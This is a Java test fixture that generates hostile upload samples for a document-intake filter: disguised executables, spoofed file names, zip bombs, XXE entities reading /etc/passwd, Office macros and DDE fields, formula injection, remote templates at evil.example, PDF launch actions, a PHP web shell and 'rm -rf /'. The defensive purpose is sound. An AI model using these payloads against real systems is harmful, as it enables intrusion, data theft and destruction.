package org.shenfa.files;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static org.shenfa.files.Samples.action;
import static org.shenfa.files.Samples.image;
import static org.shenfa.files.Samples.joined;
import static org.shenfa.files.Samples.member;
import static org.shenfa.files.Samples.officeWith;
import static org.shenfa.files.Samples.pdf;
import static org.shenfa.files.Samples.utf8;

import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.shenfa.files.Samples.Member;

/** Files that must not be kept: disguised, active, leading outside, bombs, broken. */
final class HostileFiles {
  /** A file as it arrives. */
  record Sample(String what, String name, byte[] raw) {}

  private static final String DTD =
      "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><d>&x;</d>";
  private static final String LAUGHS =
      "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]><l>&c;</l>";
  private static final Map<String, String> ARCHIVES =
      Map.of(
          "docx", "word/document.xml",
          "xlsx", "xl/workbook.xml",
          "pptx", "ppt/presentation.xml",
          "ofd", "OFD.xml");

  private final List<Sample> all = new ArrayList<>();

  private HostileFiles() {}

  static List<Sample> all() {
    var files = new HostileFiles();
    files.disguises();
    files.names();
    ARCHIVES.forEach(files::structures);
    for (var type : List.of("docx", "xlsx", "pptx")) {
      files.active(type);
    }
    files.fields();
    files.actions();
    files.pdfs();
    files.ofds();
    files.pictures();
    return files.all;
  }

  private void add(String what, String extension, byte[] raw) {
    all.add(new Sample(what + "." + extension, "附件%d.%s".formatted(all.size(), extension), raw));
  }

  private void disguises() {
    var foreign = new LinkedHashMap<String, byte[]>();
    foreign.put("程序", utf8("MZ\u0090\0\3\0\0\0 This program cannot be run in DOS mode"));
    foreign.put("Linux程序", new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0});
    foreign.put("网页", utf8("<html><script>alert(1)</script></html>"));
    foreign.put("矢量图", utf8("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"));
    foreign.put("脚本", utf8("#!/bin/sh\nrm -rf /\n"));
    foreign.put("PHP", utf8("<?php system($_GET['c']); ?>"));
    foreign.put("RAR", utf8("Rar!\u001a\7\1\0 something inside"));
    foreign.put("7z", new byte[] {'7', 'z', (byte) 0xbc, (byte) 0xaf, 0x27, 0x1c, 0, 4});
    foreign.put("gzip", new byte[] {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, 3});
    foreign.put(
        "Java类", new byte[] {(byte) 0xca, (byte) 0xfe, (byte) 0xba, (byte) 0xbe, 0, 0, 0, 69});
    foreign.put("空壳", new byte[] {0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0});
    foreign.put("压缩包", Samples.zip(member("a.txt", "甲")));
    for (var type : List.of("pdf", "jpg", "png", "docx", "xlsx", "pptx", "ofd")) {
      foreign.forEach((what, raw) -> add(what, type, raw));
    }
    add("PDF", "png", pdf());
    add("PDF", "docx", pdf());
    add("PNG", "jpg", image("png", 9, 9));
    add("JPG", "png", image("jpg", 9, 9));
    add("docx", "pdf", Samples.docx());
    add("docx", "xlsx", Samples.docx());
    add("xlsx", "docx", Samples.xlsx());
    add("pptx", "ofd", Samples.pptx());
    add("有空字符", "txt", utf8("甲\0乙"));
    add("不是文字", "txt", new byte[] {(byte) 0xff, (byte) 0xff, (byte) 0xff});
  }

  private void names() {
    for (var name :
        List.of(
            "通知.pdf.exe",
            "通知.jsp.",
            "通知.php%00.jpg",
            "通知.jsp;.pdf",
            "通知\u202efdp.exe",
            "通知\u202e.pdf",
            "通知\0.pdf",
            "a/b.pdf",
            "a\\b.pdf",
            "../b.pdf",
            "通知.html",
            "通知.svg",
            "通知.js",
            "通知.bat",
            "通知.lnk",
            "通知.iso",
            "通知.jar",
            "通知.exe",
            "通知.jsp",
            "通知",
            ".pdf",
            "通知\u200b.pdf",
            "通知.pdf ",
            "通知.docm",
            "通知.xlsm",
            "通知.hta",
            "通知.vbs",
            "通知.ps1")) {
      all.add(new Sample("文件名", name, utf8("公开内容")));
    }
  }

  private static Member[] many(int count) {
    return IntStream.range(0, count)
        .mapToObj(i -> member("m/" + i + ".xml", "<x/>"))
        .toArray(Member[]::new);
  }

  private void structures(String type, String main) {
    add("压缩炸弹", type, officeWith(main, new Member("b.xml", new byte[12 << 20])));
    add("成员过多", type, officeWith(main, many(type.equals("ofd") ? 5_100 : 2_100)));
    for (var path :
        List.of("../../x.xml", "/etc/x.xml", "..\\x.xml", "C:x.xml", "a//x.xml", "a\u0007.xml")) {
      add("路径" + path, type, officeWith(main, member(path, "<x/>")));
    }
    add("仅大小写不同", type, officeWith(main, member(main.toUpperCase(java.util.Locale.ROOT), "<x/>")));
    add("外部实体", type, officeWith(main, member("a.xml", DTD)));
    add("UTF-16外部实体", type, officeWith(main, new Member("a.xml", DTD.getBytes(UTF_16))));
    add("别名外部实体", type, officeWith(main, member("a.dat", DTD)));
    add("绘图外部实体", type, officeWith(main, member("a.vml", DTD)));
    add("十亿笑声", type, officeWith(main, member("a.xml", LAUGHS)));
    add("不成形", type, officeWith(main, member("a.xml", "<a><b></a>")));
    add(
        "截断",
        type,
        Arrays.copyOf(officeWith(main, new Member("a.png", image("png", 90, 90))), 700));
    add("垫了图片", type, joined(image("png", 9, 9), officeWith(main)));
    add("主体外部实体", type, Samples.zip(member("[Content_Types].xml", "<Types/>"), member(main, DTD)));
    add("内藏程序", type, officeWith(main, member("media/a.png", "MZ...")));
    add("内藏压缩包", type, officeWith(main, new Member("media/a.png", Samples.docx())));
    add("内藏PDF", type, officeWith(main, new Member("media/a.png", pdf())));
    add(
        "内藏gzip",
        type,
        officeWith(main, new Member("media/a.png", new byte[] {0x1f, (byte) 0x8b, 8})));
    add("只有清单", type, Samples.zip(member("[Content_Types].xml", "<Types/>")));
  }

  private static OfficePackage fresh(String type) {
    return switch (type) {
      case "docx" -> OfficePackage.docx(OfficePackage.paragraph("通知"));
      case "xlsx" ->
          OfficePackage.xlsx("", "<sheetData>" + OfficePackage.row("通知") + "</sheetData>");
      default -> OfficePackage.pptx(OfficePackage.shape("通知"));
    };
  }

  private void active(String type) {
    var rel = OfficePackage.REL;
    var folder = type.equals("docx") ? "word/" : type.equals("xlsx") ? "xl/" : "ppt/";
    add("宏", type, fresh(type).member(folder + "vbaProject.bin", utf8("x")).bytes());
    add(
        "改名的宏",
        type,
        fresh(type)
            .part(
                "v",
                folder + "a.xml",
                "application/xml",
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "<x/>")
            .bytes());
    add(
        "宏类型",
        type,
        fresh(type)
            .part(
                "v",
                folder + "a.xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
                rel + "/x",
                "<x/>")
            .bytes());
    add("控件", type, fresh(type).member(folder + "activeX/activeX1.xml", utf8("<x/>")).bytes());
    add("嵌入对象", type, fresh(type).member(folder + "embeddings/oleObject1.bin", utf8("x")).bytes());
    add("嵌入文档", type, fresh(type).member(folder + "embeddings/a.docx", Samples.docx()).bytes());
    add(
        "嵌入关系",
        type,
        fresh(type)
            .part("o", folder + "a.xml", "application/xml", rel + "/oleObject", "<x/>")
            .bytes());
    add(
        "嵌入包",
        type,
        fresh(type)
            .part("o", folder + "a.xml", "application/xml", rel + "/package", "<x/>")
            .bytes());
    add(
        "网页块",
        type,
        fresh(type)
            .part("o", folder + "a.xml", "application/xml", rel + "/aFChunk", "<x/>")
            .bytes());
    for (var media : List.of("audio", "video")) {
      add(
          media,
          type,
          fresh(type)
              .part("o", folder + "a.xml", "application/xml", rel + "/" + media, "<x/>")
              .bytes());
    }
    add(
        "外部模板",
        type,
        fresh(type).outside("attachedTemplate", "http://evil.example/t.dotm").bytes());
    add("共享盘模板", type, fresh(type).outside("attachedTemplate", "\\\\evil\\share\\t.dotm").bytes());
    add(
        "共享盘模板地址",
        type,
        fresh(type).outside("attachedTemplate", "file://evil/share/t.dotm").bytes());
    add("外部图片", type, fresh(type).outside("image", "http://evil.example/t.png").bytes());
    add("外部对象", type, fresh(type).outside("oleObject", "http://evil.example/t.hta").bytes());
    add("外部框架", type, fresh(type).outside("frame", "http://evil.example/").bytes());
    for (var target :
        List.of(
            "file://server/share/x.exe",
            "javascript:alert(1)",
            "ms-word:ofe|u|http://evil.example/x.docx",
            "\\\\evil\\x")) {
      add("链接" + target, type, fresh(type).outside("hyperlink", target).bytes());
    }
    add(
        "不明二进制",
        type,
        fresh(type)
            .part("o", folder + "a.dat", "application/x", rel + "/x", new byte[] {9, 8, 7, 6, 5})
            .bytes());
    add(
        "外部数据",
        type,
        fresh(type)
            .part(
                "o",
                folder + "connections.xml",
                "application/xml",
                rel + "/connections",
                "<connections/>")
            .bytes());
  }

  private void fields() {
    for (var field : List.of("DDEAUTO c:\\\\cmd.exe", "DDE excel a b", "ddeauto x", "DDE \"x\"")) {
      add(
          field,
          "docx",
          OfficePackage.docx(
                  "<w:p><w:r><w:instrText>"
                      + field.replace("\"", "&quot;")
                      + " </w:instrText></w:r></w:p>")
              .bytes());
    }
    add(
        "拆开的DDE",
        "docx",
        OfficePackage.docx(
                "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO x</w:instrText></w:r></w:p>")
            .bytes());
    add(
        "简单域DDE",
        "docx",
        OfficePackage.docx("<w:p><w:fldSimple w:instr='dde excel x'/></w:p>").bytes());
    for (var formula :
        List.of(
            "cmd|'/c calc'!A1",
            "=MSEXCEL|'x'!A",
            "-cmd|' /C notepad'!A0",
            "WEBSERVICE(\"http://evil.example\")",
            "RTD(\"a\",,\"b\")",
            "CALL(\"Kernel32\",\"WinExec\")",
            "REGISTER.ID(\"a\",\"b\")")) {
      add(
          "公式" + formula,
          "xlsx",
          OfficePackage.xlsx(
                  "",
                  "<sheetData><row r='1'><c r='A1'><f>"
                      + formula
                      + "</f><v>1</v></c></row></sheetData>")
              .bytes());
    }
    add(
        "DDE链接",
        "xlsx",
        fresh("xlsx")
            .part(
                "e",
                "xl/externalLinks/e.xml",
                "application/xml",
                OfficePackage.REL + "/externalLink",
                "<externalLink><ddeLink/></externalLink>")
            .bytes());
    add(
        "宏表",
        "xlsx",
        fresh("xlsx")
            .part(
                "e",
                "xl/macrosheets/s.xml",
                "application/xml",
                "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
                "<x/>")
            .bytes());
  }

  private void actions() {
    for (var action :
        List.of(
            "Launch",
            "SubmitForm",
            "ImportData",
            "JavaScript",
            "GoToR",
            "GoToE",
            "Rendition",
            "Movie",
            "Sound",
            "RichMediaExecute")) {
      add(
          "打开即" + action,
          "pdf",
          pdf(d ->
              d.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, action(action))));
      add(
          "翻页即" + action,
          "pdf",
          pdf(d -> d.getPage(0).getCOSObject().setItem(COSName.AA, action(action))));
      add("点击即" + action, "pdf", pdf(d -> annotate(d, action(action))));
    }
    for (var target :
        List.of(
            "file:///c:/x.exe",
            "javascript:alert(1)",
            "data:text/html,x",
            "smb://evil/x",
            "\\\\evil\\x",
            "ms-word:ofe|u|x",
            "vbscript:x")) {
      var uri = action("URI");
      uri.setItem(COSName.URI, new COSString(target));
      add("链接" + target, "pdf", pdf(d -> annotate(d, uri)));
    }
  }

  private static void annotate(PDDocument document, COSDictionary action) {
    var link = new COSDictionary();
    link.setName(COSName.SUBTYPE, "Link");
    link.setItem(COSName.A, action);
    var all = new COSArray();
    all.add(link);
    document.getPage(0).getCOSObject().setItem(COSName.ANNOTS, all);
  }

  private void pdfs() {
    add("嵌入文件", "pdf", pdf(d -> named(d, "EmbeddedFiles")));
    add("文档脚本", "pdf", pdf(d -> named(d, "JavaScript")));
    add(
        "附件注释",
        "pdf",
        pdf(d -> {
          var file = new COSDictionary();
          file.setItem(COSName.EF, new COSDictionary());
          annotate(d, file);
        }));
    add(
        "富媒体",
        "pdf",
        pdf(d -> {
          var media = new COSDictionary();
          media.setItem(COSName.getPDFName("RichMediaContent"), new COSDictionary());
          annotate(d, media);
        }));
    add(
        "动态表单",
        "pdf",
        pdf(d -> {
          var form = new COSDictionary();
          form.setItem(COSName.XFA, new COSString("<xdp/>"));
          d.getDocumentCatalog().getCOSObject().setItem(COSName.ACRO_FORM, form);
        }));
    for (var bits : new int[] {40, 128, 256}) {
      for (var toOpen : List.of("open", "")) {
        add(
            "加密" + bits + toOpen,
            "pdf",
            pdf(d -> {
              var policy = new StandardProtectionPolicy("owner", toOpen, new AccessPermission());
              policy.setEncryptionKeyLength(bits);
              d.protect(policy);
            }));
      }
    }
    add("截断", "pdf", utf8("%PDF-1.7\n1 0 obj\n<< /Type /Catalog"));
    add("只有文件头", "pdf", utf8("%PDF-1.7\n"));
    add("乱码", "pdf", joined(utf8("%PDF-1.4\n"), new byte[500]));
    add(
        "页面树成环",
        "pdf",
        pdf(d -> {
          var tree = d.getDocumentCatalog().getCOSObject().getCOSDictionary(COSName.PAGES);
          var kids = new COSArray();
          kids.add(tree);
          tree.setItem(COSName.KIDS, kids);
          tree.setItem(COSName.COUNT, COSInteger.get(9_000_000));
        }));
    add("没有页", "pdf", pdf(d -> d.removePage(0)));
  }

  private static void named(PDDocument document, String key) {
    var names = new COSDictionary();
    names.setItem(COSName.getPDFName(key), new COSDictionary());
    document.getDocumentCatalog().getCOSObject().setItem(COSName.NAMES, names);
  }

  private static byte[] ofd(String document, Member... more) {
    var members = new ArrayList<Member>();
    members.add(
        member(
            "OFD.xml",
            "<ofd:OFD xmlns:ofd='http://www.ofdspec.org/2016'><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"));
    members.add(
        member(
            "Doc_0/Document.xml",
            "<ofd:Document xmlns:ofd='http://www.ofdspec.org/2016'>"
                + document
                + "</ofd:Document>"));
    members.addAll(List.of(more));
    return Samples.zip(members.toArray(Member[]::new));
  }

  private void ofds() {
    add(
        "附件",
        "ofd",
        ofd(
            "<ofd:Attachments>Attachs/Attachments.xml</ofd:Attachments>",
            member(
                "Doc_0/Attachs/Attachments.xml",
                "<ofd:Attachments xmlns:ofd='http://www.ofdspec.org/2016'><ofd:Attachment Name='a'><ofd:FileLoc>a.txt</ofd:FileLoc></ofd:Attachment></ofd:Attachments>"),
            member("Doc_0/Attachs/a.txt", "甲")));
    for (var action : List.of("GotoA", "Movie", "Sound", "Script", "JavaScript")) {
      add(action, "ofd", ofd("<ofd:Action Event='DO'><ofd:" + action + "/></ofd:Action>"));
    }
    for (var uri : List.of("file:///c:/x.exe", "javascript:alert(1)", "smb://evil/x")) {
      add(
          "链接" + uri,
          "ofd",
          ofd("<ofd:Action Event='CLICK'><ofd:URI URI='" + uri + "'/></ofd:Action>"));
    }
    add(
        "不明二进制",
        "ofd",
        ofd(
            "<ofd:CommonData><ofd:PublicRes>a.dat</ofd:PublicRes></ofd:CommonData>",
            new Member("Doc_0/a.dat", new byte[] {9, 8, 7, 6})));
    add("没有入口", "ofd", Samples.zip(member("Doc_0/Document.xml", "<x/>")));
  }

  private void pictures() {
    add("像素洪水", "png", Samples.pixelFlood());
    var png = image("png", 90, 90);
    add("截断", "png", Arrays.copyOf(png, 60));
    add("改坏", "png", broken(png));
    var jpg = image("jpg", 90, 90);
    add("截断", "jpg", Arrays.copyOf(jpg, 40));
    add("只有头", "jpg", Arrays.copyOf(jpg, 4));
    var still = new String(image("png", 9, 9), ISO_8859_1);
    var at = still.indexOf("IDAT") - 4;
    add(
        "动画",
        "png",
        (still.substring(0, at) + "\0\0\0\0acTL\0\0\0\0" + still.substring(at))
            .getBytes(ISO_8859_1));
    var webp = ByteBuffer.allocate(30).put(utf8("RIFF")).putInt(22).put(utf8("WEBPVP8 ")).array();
    for (var type : List.of("jpg", "png")) {
      add("WebP", type, webp);
      add("GIF", type, image("gif", 9, 9));
      add("BMP", type, image("bmp", 9, 9));
      add("TIFF", type, image("tiff", 9, 9));
    }
  }

  private static byte[] broken(byte[] png) {
    var copy = png.clone();
    Arrays.fill(copy, 40, Math.min(copy.length, 80), (byte) 0x55);
    return copy;
  }
}
